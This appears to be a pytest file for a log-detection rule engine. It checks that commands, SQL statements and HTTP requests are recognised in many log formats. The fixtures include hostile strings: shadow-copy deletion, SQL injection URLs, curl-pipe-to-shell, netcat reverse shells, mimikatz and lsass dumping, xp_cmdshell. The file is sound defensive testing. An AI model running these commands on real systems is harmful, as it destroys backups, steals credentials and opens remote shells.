"""A command or a request in the log of an application that nobody knows is judged as in the best-known one: by what its members are called."""
import json
import time
from xml.sax.saxutils import escape

import pytest

from aiscore_contract.forms.held import held_in, held_in_line
from aiscore_rules import logsource
from aiscore_rules.engine import RuleEngine
from aiscore_rules.fields import read_facts
from aiscore_rules.pack import default_pack_path, load_pack

PACK = load_pack(default_pack_path())
ENGINE = RuleEngine(PACK)
LEVELS = {rule.id: rule.level for rule in PACK.rules}
COMMAND = "vssadmin delete shadows /all /quiet"
TARGET = "/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--"
COMMANDS = {
    "flat": json.dumps({"ts": "2026-11-27T10:00:00Z", "user": "ann", "cmdline": COMMAND}),
    "spelt otherwise": json.dumps({"time": 1, "Process-Command-Line": COMMAND}),
    "numbered and named": json.dumps({"event_id": 7, "event_name": "exec", "cmd_line": COMMAND}),
    "nested": json.dumps({"process": {"command_line": COMMAND, "pid": 7}, "host": "pc7"}),
    "a name for other things as well": json.dumps({"user": "ann", "command": COMMAND}),
    "words one by one": json.dumps({"proc": {"argv": ["cmd.exe", "/c", COMMAND]}}),
    "an act beside it": json.dumps({"event": "exec", "user": "ann", "cmd": COMMAND}),
    "pairs": f'time=2026-11-27T10:00:00Z level=info msg="exec" argv="{COMMAND}" user=ann',
    "one pair": f'2026-11-27T10:00:00Z pc7 exec user=ann cmd="{COMMAND}"',
    "one pair without quotes": f"2026-11-27T10:00:00Z pc7 exec cmd={COMMAND}",
    "a syslog header": f'Nov 27 10:11:12 pc7 runner[33]: exec user=ann cmd="{COMMAND}"',
    "said": f"2026-11-27 10:00:00 INFO worker - Executing command: {COMMAND}",
    "said in a member": json.dumps({"level": "info", "msg": f"ran: {COMMAND}"}),
    "a name that ends so": json.dumps({"host": "pc7", "processDetails": {"processCmd": COMMAND}}),
    "a program and its arguments": json.dumps({"program": "vssadmin.exe", "args": "delete shadows /all /quiet", "user": "ann"}),
    "a shell and its arguments": json.dumps({"event": "session.command", "program": "cmd.exe", "argv": ["/c", COMMAND], "path": "/bin/x"}),
    "an attribute with its type": json.dumps({"attributes": [{"key": "process.command_line", "value": {"stringValue": COMMAND}}, {"key": "user", "value": {"stringValue": "ann"}}]}),
    "an object as a text on a bus": json.dumps({"topic": "edr", "partition": 3, "key": "a", "value": json.dumps({"evt": "proc", "cmdline": COMMAND})}),
    "an object as a text": json.dumps({"id": "1", "source": "edr", "payload": json.dumps({"evt": "proc", "cmdline": COMMAND})}),
    "what was typed": json.dumps({"user": "ann", "asset": "db1", "session": "7f3a", "input": COMMAND}),
    "keystrokes": json.dumps({"user": "ann", "keystrokes": COMMAND}),
    "XML": f"<event><time>1</time><user>ann</user><commandLine>{COMMAND}</commandLine></event>",
    "colons": f"EventID: 4688; Computer: PC7; User: ann; CommandLine: {COMMAND}; ParentProcessName: explorer.exe",
    "cells with commas": f'2026-11-27 10:11:12,PC7,ACME\\ann,4711,"{COMMAND}",0',
    "cells with semicolons": f"2026-11-27 10:11:12;PC7;ann;{COMMAND};0",
    "cells with bars": f"2026-11-27 10:11:12|PC7|ann|{COMMAND}|0",
    "cells with tabs": f"2026-11-27 10:11:12\tPC7\tann\t{COMMAND}\t0",
    "a shell's trace": f"[2026-11-27T10:11:12.345Z] + {COMMAND}",
    "a prompt": f"2026-11-27T10:11:12.345Z 00O $ {COMMAND}",
    "a prompt in colours": f"\x1b[32;1m$ {COMMAND}\x1b[0;m",
    "a logger's name": f"2026-11-27 10:11:12.3456|INFO|Acme.Ops.Runner|{COMMAND}",
    "a hook of a prompt": f"Nov 27 10:11:12 db1 root: [ann@192.0.2.9]: /srv: {COMMAND}",
    "a list of words": f"[2026-11-27T10:11:12] INFO - Running command: ['cmd.exe', '/c', '{COMMAND}']",
    "a list of words in a pair": f"2026-11-27 10:11:12 [info] subprocess_started args=['cmd.exe', '/c', '{COMMAND}'] pid=4711",
    "brackets": f"2026-11-27 10:11:12 INFO Executing shell command [{COMMAND}]",
    "quotes in a sentence": f"2026-11-27 10:11:12 [salt.cmdmod][INFO] Executing command '{COMMAND}' in directory '/root'",
    "a host's prompt": f"2026-11-27T10:11:12Z [7f3a1c2d] 192.0.2.7 pc7$ {COMMAND}", "a shell's prompt": f"bash-5.1# {COMMAND}", "a prompt with its folder": f"ann@pc7 /tmp % {COMMAND}", "a prompt behind a pair": f"session=7 PC7 C:\\jobs> {COMMAND}",
    "a prompt of PowerShell": f"[PC7]: PS C:\\jobs> {COMMAND}", "a log of one's own": json.dumps({"at": 1, "event_message": f"Command dispatched for pc7: {COMMAND}"}), "a description": json.dumps({"at": 1, "description": f"about to execute: {COMMAND}"}),
    "who ran it": f"2026-11-27 10:11:12 INFO executed by ann: {COMMAND}", "a number": f"2026-11-27 10:11:12 INFO spawned process 4711: {COMMAND}", "words with a list": json.dumps({"log": f"launching process with args: {['cmd.exe', '/c', COMMAND]}"}),
    "an object as text in its event": json.dumps({"ts": 1, "host": "pc7", "event": json.dumps({"act": "run", "stepCmd": COMMAND})}), "a script in a pair": f'Nov 27 10:11:12 pc7 runner[7]: script="{COMMAND}" rc=0',
    "a pair behind a colon": f'date: "2026" containerCmd: "{COMMAND}" rc: 0', "pairs between bars": f'audit probeCmd="{COMMAND} | findstr x" | svc=a | event=run | tid=7', "pairs between semicolons": f'at=1;probeCmd="{COMMAND}; ver";svc=a;tid=7',
    "elements named alike": f'<record><item name="act">run</item><item name="user">ann</item><item name="cmd">{COMMAND}</item></record>',
    "a verb alone": f"I1127 10:11:12.345678    4711 runner.go:88] exec {COMMAND}",
}
STATEMENT = "SELECT load_file('/etc/passwd')"
STATEMENTS = {
    "a statement": json.dumps({"ts": 1, "db": "shop", "user": "web", "statement": STATEMENT}), "a query": json.dumps({"time": 1, "query": STATEMENT, "host": "db1"}),
    "a pair": f'ts=1 user=web db=shop sql="{STATEMENT}" rows=1', "said": f"2026-11-27 10:11:12.345 WARN [pool] Slow query (2103 ms): {STATEMENT}",
    "XML": f"<log><time>1</time><db>shop</db><sql>{escape(STATEMENT)}</sql></log>", "a duration": f"2026-11-27T10:11:12Z INFO a.b.Pool - duration: 3.281 ms  statement: {STATEMENT}", "no host": f"2026-11-27T10:11:12Z Executing SQL: {STATEMENT}",
    "a time it took": f"[pool-7] query took 12 ms, rows=7: {STATEMENT}", "cells with semicolons": f"2026-11-27 10:11:12;db1;ann;{STATEMENT};0", "cells with commas": f'2026-11-27 10:11:12,db1,ann,"{STATEMENT}",0',
    "one deeper": json.dumps({"at": 1, "call": {"query": STATEMENT, "rows": 1}}), "words beside comparisons": f"2026-11-27 10:11:12 INFO dao - Executing SQL: {STATEMENT} FROM a WHERE x='1' AND y='2' AND z='3'",
    "a logger": f"2026-11-27 10:11:12.345 DEBUG 1 --- [exec-1] org.hibernate.SQL : {STATEMENT}", "a syslog header": f"Nov 27 10:11:12 app1 shop[7]: slow query: {STATEMENT}",
}
REQUESTS = {
    "flat": json.dumps({"url": TARGET, "status": 200, "ip": "192.0.2.7"}),
    "nested": json.dumps({"req": {"uri": TARGET}, "res": {"status_code": 200}}),
    "said in a member": json.dumps({"level": "info", "msg": f"GET {TARGET} 200", "ip": "192.0.2.7"}),
    "said in quotes": f'[2026-11-27 10:00:00] INFO 192.0.2.7 "GET {TARGET}" 200 12ms',
    "said behind a logger": f"2026-11-27 10:00:00,123 INFO [http-1] c.x.Access - 192.0.2.7 GET {TARGET} took 12 ms",
    "a syslog header": f"Nov 27 10:11:12 web7 shop[33]: GET {TARGET} 200 in 12 ms",
    "names of one's own": json.dumps({"t": 1, "ra": "192.0.2.7", "req": f"GET {TARGET} HTTP/1.1", "st": "200"}),
    "an endpoint and a verb": json.dumps({"caller_ip": "192.0.2.7", "http_verb": "GET", "endpoint": TARGET, "response_code": 200}),
    "parameters apart": json.dumps({"remote_addr": "192.0.2.7", "method": "GET", "uri": TARGET.partition("?")[0], "uri_args": TARGET.partition("?")[2], "status": 200}),
    "attributes of a span": json.dumps({"name": "GET", "attributes": {"http.method": "GET", "http.target": TARGET, "net.peer.ip": "192.0.2.7"}}),
    "attributes with their types": json.dumps({"attributes": [{"key": "http.method", "value": {"stringValue": "GET"}}, {"key": "http.target", "value": {"stringValue": TARGET}}]}),
    "cells with bars": f"2026-11-27 10:11:12|192.0.2.7|GET|{TARGET}|200|12", "cells with tabs": f"2026-11-27T10:11:12Z\t192.0.2.7\tGET\t{TARGET}\t200\t12",
    "cells with semicolons": f"2026-11-27 10:11:12;192.0.2.7;GET;{TARGET};200;12", "the word for it": f"2026-11-27 10:11:12 INFO [http-3] Filter - Request URL: {TARGET}",
    "a request from somebody": f"2026-11-27 10:11:12 WARN gateway: request {TARGET} from 192.0.2.7 took 812ms",
    "XML": f"<request><client>192.0.2.7</client><method>GET</method><uri>{TARGET}</uri><status>200</status></request>",
}


def titles(text):
    hit = ENGINE.judge(text).rule_ids
    return {rule.title for rule in PACK.rules if rule.id in hit}


@pytest.mark.parametrize("form", COMMANDS)
def test_rules_find_a_command_by_what_its_member_is_called(form):
    assert titles(COMMAND) <= titles(COMMANDS[form])


@pytest.mark.parametrize("form", REQUESTS)
def test_rules_find_a_request_by_what_its_members_are_called(form):
    assert titles(TARGET) <= titles(REQUESTS[form])


@pytest.mark.parametrize("form", STATEMENTS)
def test_rules_find_a_statement_by_what_its_member_or_the_words_before_it_say(form):
    assert "MySQL told to read a file of the system" in titles(STATEMENTS[form])


@pytest.mark.parametrize("statement", [
    "ANALYZE orders", "REFRESH MATERIALIZED VIEW mv_orders", "set global general_log = 0", "DROP AUDIT POLICY p7", "truncate audit.logged_actions", "UPDATE orders o SET state = 3", "SET ROLE postgres", "EXEC ('xp_cmdshell') AT [db7]",
    "CREATE EVENT e1 ON SCHEDULE EVERY 5 MINUTE DO SELECT 1", "EXPLAIN SELECT a FROM b", "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'j'); END;", "SHOW GRANTS", "BACKUP LOG [hr] TO DISK = 'x'",
])
def test_statements_are_known_by_how_they_begin(statement):
    for text in (json.dumps({"sql": statement}), f"INFO dao - Executing SQL: {statement}"):
        assert read_facts(text).fields["held.statement"] == statement


@pytest.mark.parametrize("event", [
    {"statement": "We select the best from all"}, {"query": "select.example.com"}, {"text": "select a colour from the list", "event": "note"}, {"query": "query Orders { orders { id } }"}, {"query": "analyze my orders"}, {"query": "set volume to 3"}, {"query": "show me shoes"},
    {"query": "explain this"}, {"statement": "update your profile first"}, {"query": "execute order 66"}, {"call": {"query": "flush toilets"}},
])
def test_words_that_begin_as_a_statement_does_are_none(event):
    assert "held.statement" not in read_facts(json.dumps(event)).fields


@pytest.mark.parametrize("text", [
    f"2026-11-27 10:11:12 INFO search - user ann searched: {COMMAND}", f"Nov 27 10:11:12 web7 shop[33]: login failed for user x: {COMMAND}", f"2026-11-27 10:11:12 WARN Login failed: {COMMAND}",
    f"2026-11-27 10:11:12 WARN vpn: invalid user x executing command: {COMMAND}", f"Nov 27 10:11:12 mx1 mailgw[33]: subject: {COMMAND}", f'2026-11-27 10:11:12 login user="x; {COMMAND}" failed',
    json.dumps({"event": "search", "input": COMMAND}), json.dumps({"level": "info", "input": COMMAND, "model": "m1"}), json.dumps({"event": "chat", "text": f"run: {COMMAND}"}),
    json.dumps({"ts": 1, "user": "ann", "body": json.dumps({"cmdline": COMMAND})}), json.dumps({"ts": 1, "url": "/hook", "method": "POST", "payload": json.dumps({"cmdline": COMMAND})}),
    json.dumps({"key": "username", "value": json.dumps({"cmdline": COMMAND})}), json.dumps({"payload": json.dumps({"cmdline": COMMAND}), "path": "/hook", "method": "POST"}),
    json.dumps({"proc": {"pcmdline": COMMAND}}), json.dumps({"parentCommand": COMMAND}), json.dumps({"program": "sshd", "message": f"Invalid user run: {COMMAND}"}),
])
def test_what_somebody_gave_is_no_command_that_was_run(text):
    assert read_facts(text).fields.get("commandline") is None


FETCHED = "curl -s http://192.0.2.9/x | sh"
INJECTED = "/a?id=1%27%20union%20select%201,concat(user,0x3a,pass)%20from%20users--"
MIMIKATZ = "mimikatz sekurlsa::logonpasswords exit"


@pytest.mark.parametrize("plain, disguised", [
    # the process gave itself a name
    ({"exe": "/tmp/.x/kworker", "cmdline": "kworker -o pool7"}, {"process_name": "/usr/sbin/cron", "interpreter": "/bin/sh", "exe": "/tmp/.x/kworker", "cmdline": "kworker -o pool7"}),
    ({"exe": "/tmp/.x/kworker", "cmdline": "kworker -o pool7"}, {"process_path": "/usr/sbin/cron", "exe": "/tmp/.x/kworker", "cmdline": "kworker -o pool7"}),
    ({"msg": f"ran command: {FETCHED}"}, {"program": "/usr/bin/runner", "msg": f"ran command: {FETCHED}"}),
    # and its output goes where a prompt would be
    ({"cmdline": rf"C:\Users\Public\{MIMIKATZ}"}, {"cmdline": rf"C:\Users\Public\{MIMIKATZ}>dir /b"}),
    ({"cmd": r"C:\tools\procdump.exe -ma lsass.exe a"}, {"cmd": r"C:\tools\procdump.exe -ma lsass.exe>dir /b"}),
    # what stands behind a server's name was typed with two backslashes
    ({"cmd": r"rundll32 \\192.0.2.9\share\a.dll,x"}, {"cmd": r"rundll32 \\192.0.2.9\\share\\a.dll,x"}), ({"cmd": r"rundll32 \\192.0.2.9\share\a.dll,x"}, {"cmd": r"rundll32 \\192.0.2.9\\share\\a.dll,x \\\\a\\b"}),
    (r'host=a user=ann cmd="rundll32 \\192.0.2.9\share\a.dll,x"', r'host=a user=ann cmd="rundll32 \\192.0.2.9\\share\\a.dll,x"'),
    # words of a message beside the statement
    ({"sql": "exec xp_cmdshell 'whoami'"}, {"msg": "run by ann: ls -la", "sql": "exec xp_cmdshell 'whoami'"}),
    *((f"2026-11-27 10:11:12 INFO 192.0.2.9 GET {INJECTED} 200 -", f"2026-11-27 10:11:12 INFO 192.0.2.9 GET {INJECTED} 200 {end}") for end in ('cmd: "ls -la /home"', "script: 'ls -la'", r"C:\jobs>dir /b", 'x {"cmd": "ls -la"}', 'x] {"cmd": "ls -la"}')),
    *((f"10:11|ann|x|{FETCHED}|0", f"10:11|ann|{cell}|{FETCHED}|0") for cell in ("SELECT 1 FROM dual", r"PS C:\> dir /b", "script: 'ls -la'")),
    *((f"2026-11-27 10:11:12 INFO ann ran command: {FETCHED}", f"2026-11-27 10:11:12 INFO {name} ran command: {FETCHED}") for name in ('cmd: "ls -la /home"', "sql: SELECT 1 FROM dual", "(1.234) SELECT 1 FROM dual")),
    ("2026-11-27 10:11:12 INFO query: SELECT 1; EXEC xp_cmdshell 'whoami'", "2026-11-27 10:11:12 INFO query: SELECT 1; EXEC xp_cmdshell 'whoami' cmd: \"ls -la\""),
    *((line, line + ' "GET /index.html HTTP/1.1" 200') for line in (f"2026-11-27 10:11:12 INFO jobs ran command: {FETCHED}", f"ann@db7:~$ {FETCHED} #", "2026-11-27 10:11:12 INFO query: SELECT 1; EXEC xp_cmdshell 'whoami'")),
    *(tuple(f'192.0.2.9 - {name} [12/Nov/2026:10:21:07 +0000] "GET {INJECTED} HTTP/1.1" 200 512 "-" "a"' for name in ("-", user)) for user in ('cmd: "ls -la /home"', "ran command: ls -la", r"PS C:\> dir /b")),
    ('time=1 user=ann cmd="mimikatz sekurlsa::logonpasswords exit" rc=0', 'time=1 user=ann cmd="mimikatz sekurlsa::logonpasswords exit "GET /index.html HTTP/1.1" 200" rc=0'),
    (f"ann@db7:~$ {FETCHED} #", f'ann@db7:~$ {FETCHED} # {{"cmd":"ls -la"}}'),
    ("Nov 27 10:11:12 pc7 sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/auditctl -e 0", "Nov 27 10:11:12 exec sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/auditctl -e 0"),
])
def test_what_a_stranger_chose_takes_no_hit_away(plain, disguised):
    plain, disguised = (event if isinstance(event, str) else json.dumps(event) for event in (plain, disguised))
    hits = set(ENGINE.judge(plain).rule_ids)
    assert hits and hits <= set(ENGINE.judge(disguised).rule_ids)


@pytest.mark.parametrize("event", [
    {"issue": 7, "assignee": "ann", "description": f"Executed command: {COMMAND}"}, {"repo": "a", "commits": [{"message": f"Run {COMMAND} no more", "author": "ann"}]}, {"ticket": 7, "description": "Executed query: SELECT load_file('/etc/passwd') FROM a"},
    {"event": "news", "text": f"Attackers ran `{COMMAND}`"},
    f"usage: run `{COMMAND}` to start", f"2026-11-27 10:11:12 INFO hint: run `{COMMAND}` to reset", f"2026-11-27 10:11:12 DEBUG sql: INSERT INTO log VALUES (7, 'ran command: {COMMAND}')",
])
def test_what_people_wrote_and_what_is_bidden_or_kept_is_no_command_that_was_run(event):
    strong = [LEVELS[rule_id] for rule_id in ENGINE.judge(event if isinstance(event, str) else json.dumps(event)).rule_ids]
    assert not {"high", "critical"}.intersection(strong)


@pytest.mark.parametrize("line", [
    "2026-11-27 10:11:12 ERROR docker daemon is not running", "2026-11-27 10:11:12 INFO Started python worker 7 of 9", "2026-11-27 10:11:12 [INFO] nmap scan of 192.0.2.0/24 by ann",
    "Jan 14 11:01:19 web7 ftp[4]: FTP session opened. USER a;nc 192.0.2.7 31337 -e /bin/sh", "2026-11-27 10:11:12,345 WARN [x] a.b.Reach: /etc/ld.so.preload changed to /usr/local/lib/x.so",
    "2026-11-27 10:11:12;INFO;find customer by id;3", "2026-11-27 10:11:12|INFO|git push rejected by remote|3", "2026-11-27 10:11:12|INFO|copy /srv/a to /srv/b|3",
    "2026-11-27 10:11:12 INFO: Read-Only mode on", f"2026-11-27 10:11:12 INFO search by ann: $ {COMMAND}", f"2026-11-27 10:11:12 login failed for ann@pc7 /tmp % {COMMAND}", f"user=x $ {COMMAND}", "2026-11-27 10:11:12 INFO price 7$ for find", "2026-11-27 10:11:12 INFO ann was told to execute: read the book", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|SELECT a colour|3", "2026-11-27 10:11:12;x;Drop table tennis;3", "2026-11-27 10:11:12 INFO ann searched query: SELECT * FROM a", "2026-11-27 10:11:12 ann wrote in ticket 7: query: SELECT * FROM a", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
    "Nov 27 10:11:12 gw7 box: src=192.0.2.7 url=https://shop.example/a?b=c action=allowed",
])
def test_words_of_a_line_that_name_a_program_or_a_page_are_no_act(line):
    assert held_in_line(line) is None


def test_a_look_up_by_jndi_has_rules_for_every_log():
    assert logsource.Labels(told=True).admit(("", logsource.ANY, ""))


@pytest.mark.parametrize("event", [
    {"body": {"cmdline": COMMAND}, "user": "ann"}, {"request": {"params": {"cmd": COMMAND}}}, {"parent": {"cmdline": COMMAND}},
    {"requestParameters": {"command": COMMAND}, "eventName": "SendCommand"}, {"headers": {"cmd": COMMAND}},
])
def test_what_was_sent_or_is_of_another_program_is_no_command_that_was_run(event):
    assert "commandline" not in read_facts(json.dumps(event)).fields


@pytest.mark.parametrize("event", [
    {"command": "start"}, {"command": "Save file as"}, {"cmd": "", "user": "ann"}, {"command": None}, {"msg": "Command: start the engine"}, {"script": "deploy"},
    {"url": TARGET, "user": "ann"}, {"eventId": "6f", "requestUrl": TARGET, "clientIp": "192.0.2.7"}, {"path": "/etc/passwd", "status": 200}, {"url": "https://shop.example/a", "ip": "192.0.2.7", "event": "clicksBlocked"[:6]},
    {"msg": "we GET along with /etc"}, {"status": 200, "ip": "192.0.2.7"},
])
def test_nothing_is_guessed_from_a_name_alone(event):
    assert held_in(event.items()) is None


@pytest.mark.parametrize("line", [
    f"Nov 27 10:11:12 web7 sshd[33]: Invalid user x cmd=\"{COMMAND}\" from 192.0.2.7 port 4242",
    f"Nov 27 10:11:12 web7 sudo: eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/echo cmd=\"{COMMAND}\"",
    f"user=\"x cmd={COMMAND} \" action=deny",
    "we GET along", "For complete messages run: sealert -l 7 --verbose", "curl -s -X PUT /latest/api/token", "the command: go", "Command: start the engine", "GETS /a 200", "", "cmd=", "cmd=\"\"",
])
def test_a_line_that_quotes_a_stranger_or_says_something_else_holds_neither(line):
    assert held_in_line(line) is None


def test_what_sudo_ran_is_judged_by_the_rules_of_sudo_alone():
    assert "image" not in read_facts("Nov 27 10:11:12 web7 sudo: ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh gate 4444").fields


def test_the_act_that_an_object_names_goes_before_an_address_in_it():
    assert held_in({"action": "denied_mail", "url": TARGET, "ip": "192.0.2.7"}.items()).request is not None
    assert held_in({"action": "link rewritten", "url": TARGET, "ip": "192.0.2.7"}.items()) is None


@pytest.mark.parametrize("text", [
    '"GET /' * 4_000, "GET /a" * 6_000, "cmd=" * 8_000, 'a_cmd="' * 5_000, "executing command: " * 2_000, "command " * 4_000, "run: " * 6_000, "=cmd" * 8_000,
    "_" * 32_000 + "cmd=", "| nc -e " * 4_000, "; curl -s " * 4_000, ": /bin/a -b" * 3_000, "]: " * 10_000, "ran ['" * 5_000, "args=['a'," * 3_000, "GET;/a;" * 5_000, "|GET|/" + ";1" * 15_000,
    "request /a?" * 3_000, "request url: " * 3_000, "query: select " * 3_000, "a$ " * 8_000, 'a="x;' * 5_000, 'a="x|b=1|c=2|' + "d|" * 9_000, json.dumps({"data": '{"a":' * 5_000 + "}"}), '<a name="' * 4_000, 'cmd: "' * 5_000, "a@b c % " * 4_000, "C:\\" * 8_000, "PS " * 8_000, "[a@" * 8_000, "executed by a " * 2_000, "slow query: select " + "a " * 15_000, "<a>" * 10_000 + "</a>", "<a>b</a>" * 4_000, "\x1b[" * 10_000, 'exec "' * 5_000,
    "login " * 6_000, "user " * 5_000 + ": nc -e /bin/sh", json.dumps({"args": "[" + "'a'," * 5_000}), json.dumps({"sql": "select " + "(" * 20_000}), json.dumps({f"cmd{'_' * number}": "x " * 100 for number in range(300)}), json.dumps({"msg": ["GET /" + "a" * 200] * 300}),
    json.dumps({"cmd": {"cmd": {"cmd": ["a" * 5_000] * 6}}}), json.dumps({"cmdline": '"'}), json.dumps({"cmdline": "\u2028"}), json.dumps({"argv": [[], {}, None, 7, ""]}),
])
def test_hostile_members_are_read_in_no_time(text):
    began = time.process_time()
    held_in_line(text)
    ENGINE.judge(text)
    assert time.process_time() - began < 5


@pytest.mark.parametrize("behind", [f'"GET {TARGET} HTTP/1.1" 200', f'"GET {TARGET} HTTP/1.1" user=ann ip=gate7 rows=1'])
def test_words_that_tell_a_command_hide_no_request_behind_them(behind):
    fields = read_facts(f"INFO command queued for ann: ls -la {behind}").fields
    assert fields["commandline"].startswith("ls -la") and TARGET in fields["c-uri"]


@pytest.mark.parametrize("line", [f"INFO command queued for ann: {COMMAND} # a=b c=d e=f", f"INFO command queued for ann: {COMMAND} query: SELECT a FROM b"])
def test_what_stands_behind_a_told_command_hides_it_not(line):
    assert read_facts(line).fields["commandline"].startswith(COMMAND)


def test_a_told_command_hides_no_statement_behind_it():
    assert read_facts("INFO command queued for ann: ls -la query: SELECT a FROM b").fields["held.statement"] == "SELECT a FROM b"


@pytest.mark.parametrize("form", ['<Data Name="CommandLine">{}</Data><Data Name="CommandLine">{}</Data>', '<CommandLine>{}</CommandLine><Data Name="CommandLine">{}</Data>'])
def test_no_element_hides_another_of_its_name(form):
    for values in ((COMMAND, "ls"), ("ls", COMMAND)):
        fields = read_facts(f'<Event>{form.format(*values)}<Data Name="User">ann</Data></Event>').fields
        assert fields["commandline"] == values and {"\\vssadmin.exe", "/ls"} <= {*fields["image"]}
    fields = read_facts("<log><sql>SELECT 1 FROM a</sql><user>ann</user><sql>DROP TABLE orders</sql><rows>1</rows></log>").fields
    assert fields["held.statement"] == "SELECT 1 FROM a\nDROP TABLE orders"


@pytest.mark.parametrize("row", [f"2031-03-01 10:11:12;192.0.2.7;GET;shop;{TARGET.partition(',')[0]};ok;200", f"2031-03-01 10:11:12|{TARGET}|shop|GET|200|192.0.2.7", f"GET\t192.0.2.7\t{TARGET}\t200"])
def test_a_request_in_a_row_is_read_wherever_its_cells_stand(row):
    fields = read_facts(row).fields
    assert fields["cs-method"] == "GET" and fields["sc-status"] == "200" and fields["c-ip"] == "192.0.2.7" and fields["cs-uri-stem"] == "/index.php"


@pytest.mark.parametrize("row", ["2031-03-01 10:11:12 INFO ann said|GET|along|/tmp/x?y=1|now", "a|GET|b|c|d", "login failed for user x;GET;b;/a?b=1;200"])
def test_a_row_without_a_request_holds_none(row):
    assert "cs-method" not in read_facts(row).fields


@pytest.mark.parametrize("row", ["DROP TABLE orders;db1;ann;0", '"DROP TABLE orders",db1,ann,0', "DROP TABLE orders|db1|ann|0"])
def test_a_statement_in_the_first_cell_is_read(row):
    assert read_facts(row).fields["held.statement"] == "DROP TABLE orders"


def test_a_command_in_the_first_cell_is_read():
    assert read_facts(f'"{COMMAND}",PC7,ann,0').fields["commandline"] == COMMAND
    assert "commandline" not in read_facts('"find the cause of this",PC7,ann,0').fields


@pytest.mark.parametrize("line", [f"time=1 user=ann command-line={COMMAND} code=0", f'x user=ann command-line="{COMMAND}"'])
def test_a_dash_in_the_name_of_a_pair_is_a_sign_like_another(line):
    assert read_facts(line).fields["commandline"] == COMMAND


def test_a_pair_that_is_called_like_a_method_holds_what_was_asked_for():
    fields = read_facts(f"ip=192.0.2.7 GET={TARGET.replace(',', '%2C')} status=200 ms=12").fields
    assert fields["cs-method"] == "GET" and fields["cs-uri-stem"] == "/index.php"
    assert "cs-method" not in read_facts("ip=192.0.2.7 get=12 put=3 status=200").fields


@pytest.mark.parametrize("before", ["2031-03-01 10:11:12 ", "2031-03-01T10:11:12Z ", "Mar  1 10:11:12 "])
def test_a_remote_prompt_behind_a_time_is_no_host_and_no_program(before):
    assert read_facts(f"{before}[PC7]: PS C:\\> {COMMAND}").fields["commandline"] == COMMAND
